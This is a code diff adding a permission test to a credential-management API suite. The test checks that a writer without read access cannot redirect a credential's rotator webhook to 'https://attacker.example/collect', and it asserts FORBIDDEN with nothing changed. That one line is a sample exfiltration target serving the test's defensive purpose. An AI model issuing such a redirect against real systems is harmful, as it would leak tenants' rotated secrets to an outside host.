@@ -138,6 +138,14 @@ describe('writing a credential is not reading it', () => {
     expect(await count()).toBe(before);
   });
 
+  it('CREDENTIAL_WRITE cannot point the rotator of a credential it cannot read at its own URL; nothing changes', async () => {
+    const before = await api.sql(`SELECT rotator, rotator_secret_ciphertext FROM credentials WHERE tenant_id = $1 AND name = 'pg-admin-w'`, [t.tenantId]);
+    const r = await api.gql(writer.token, `mutation { setCredentialRotator(name: "pg-admin-w", input: { kind: WEBHOOK, url: "https://attacker.example/collect", gracePeriod: "PT1H" }) { signingSecret } }`);
+    expect(r.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+    expect(r.errors?.[0]?.extensions?.missingPermissions).toEqual(['CREDENTIAL_ADMIN']);
+    expect(await api.sql(`SELECT rotator, rotator_secret_ciphertext FROM credentials WHERE tenant_id = $1 AND name = 'pg-admin-w'`, [t.tenantId])).toEqual(before);
+  });
+
   it('a writer granted on the credential may pass it on; the admin (CREDENTIAL_ADMIN) may grant anyone, itself included', async () => {
     await api.ok(t.adminToken, GRANT, { n: 'pg-admin-w', o: writer.ownerId });
     const other = await newPrincipal(api, t.adminToken, []);
